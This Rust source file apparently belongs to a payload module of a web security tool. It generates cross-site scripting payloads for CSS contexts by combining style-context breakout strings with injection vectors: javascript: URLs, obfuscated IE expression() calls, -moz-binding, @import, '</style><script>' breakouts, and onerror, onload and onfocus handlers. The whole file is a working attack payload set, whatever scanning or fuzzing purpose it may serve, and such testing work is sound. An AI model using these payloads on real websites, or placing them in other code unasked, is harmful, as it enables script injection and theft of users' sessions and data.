//! Out of a style, or from one: declarations, strings and addresses of CSS, and what old browsers ran from there. `§` stands for the `@` of CSS.

/// What ends the place in a style sheet that the text stands in.
const ENDS: &[&str] = &[
    "", ";", "\";", "';", "\");", "');", ");", "}", "\"}", "'}}", "*/", "\\\";", "\n", "\\a",
    "-->", "]]>", "/*", "\u{c}",
];

/// What might run from a style.
const RUNS: &[&str] = &[
    "background:url(javascript:@)",
    "background-image:url(\"javascript:@\")",
    "width:expression(@)",
    "width:exp/**/ression(@)",
    "w\\69 dth:expr\\65 ssion(@)",
    "behavior:url(#default#time2)@",
    "-moz-binding:url(data:text/xml,@)",
    "§import 'javascript:@';",
    "§import url(data:text/css,*{x:expression(@)});",
    "list-style:url(javascript:@)",
    "content:\"</style><script>@</script>\"",
    "}</style><script>@</script>",
    "}</style><img src=x onerror=@>",
    "</style><svg onload=@>",
    "animation:x;}§keyframes x{}</style><script>@</script>",
    "--x:</style><script>@</script>",
    "filter:progid:x(@)",
    "color:red\" onfocus=\"@\" autofocus x=\"",
    "color:red' onload='@",
];

pub(in crate::payloads) fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for run in RUNS {
        for end in ENDS {
            all.push(format!("{end}{run}"));
        }
        all.push(format!("<p style=\"{run}\">x</p>"));
        all.push(format!("<style>*{{{run}}}</style>"));
    }
    all
}
